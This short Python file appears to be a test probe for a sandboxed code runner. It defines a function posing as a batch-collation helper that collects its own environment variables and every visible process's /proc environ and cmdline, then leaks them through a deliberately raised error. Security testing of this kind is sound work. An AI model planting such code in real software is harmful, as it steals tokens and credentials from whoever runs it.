# expect: runtime_error
# what: looks for the worker's environment (tokens) in its own and every visible process's
import os


def collate(batch, pad_id=0, pad_to_multiple_of=None, padding_side="right"):
    seen = {"self": dict(os.environ)}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for what in ("environ", "cmdline"):
                try:
                    with open(f"/proc/{pid}/{what}", "rb") as f:
                        seen[f"{pid}/{what}"] = f.read(2000)
                except OSError as e:
                    seen[f"{pid}/{what}"] = type(e).__name__
    raise RuntimeError(f"ATTACK-RAN {seen!r}"[:3500])
